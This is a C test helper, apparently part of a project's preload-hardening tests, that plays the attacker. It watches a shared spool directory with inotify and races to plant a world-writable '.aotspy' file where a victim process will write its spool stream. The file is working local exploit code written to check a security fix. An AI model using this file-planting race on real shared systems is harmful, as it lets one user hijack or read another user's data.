/*
 * spool_planter.c - the attacker of issue 21's first finding, for
 * tests/tests/preload_hardening.rs: run as another user on a spool directory
 * others may write to, it waits (inotify) for a victim's counters file
 * `<pid>-<ms>.counts` and at once plants `<pid>-<ms>.aotspy`, mode 0666,
 * where the victim's preload will open its spool stream.
 *
 *   cc spool_planter.c -o spool_planter
 *   spool_planter DIR
 *
 * Prints "ready" once it watches DIR, then "planted NAME" (or "late NAME"
 * when the victim's file was there first) and exits 0; exits 2 when nothing
 * appears within 60 s.
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: spool_planter DIR\n");
        return 64;
    }
    int watch = inotify_init1(IN_CLOEXEC);
    if (watch < 0 || inotify_add_watch(watch, argv[1], IN_CREATE) < 0) {
        perror("inotify");
        return 1;
    }
    int dir = open(argv[1], O_RDONLY | O_DIRECTORY);
    if (dir < 0) {
        perror(argv[1]);
        return 1;
    }
    printf("ready\n");
    fflush(stdout);
    alarm(60);
    char events[sizeof(struct inotify_event) + NAME_MAX + 1]
        __attribute__((aligned(__alignof__(struct inotify_event))));
    for (;;) {
        ssize_t n = read(watch, events, sizeof events);
        if (n <= 0) {
            if (n < 0 && errno == EINTR)
                return 2;
            perror("read");
            return 1;
        }
        for (char *p = events; p < events + n;) {
            struct inotify_event *event = (struct inotify_event *)p;
            p += sizeof *event + event->len;
            const char *suffix = ".counts";
            size_t len = event->len ? strlen(event->name) : 0;
            if (len <= strlen(suffix) || strcmp(event->name + len - strlen(suffix), suffix))
                continue;
            char name[NAME_MAX + 1];
            snprintf(name, sizeof name, "%.*s.aotspy", (int)(len - strlen(suffix)), event->name);
            int fd = openat(dir, name, O_WRONLY | O_CREAT | O_EXCL, 0666);
            if (fd < 0) {
                printf("late %s\n", name);
                return 0;
            }
            fchmod(fd, 0666);
            close(fd);
            printf("planted %s\n", name);
            return 0;
        }
    }
}
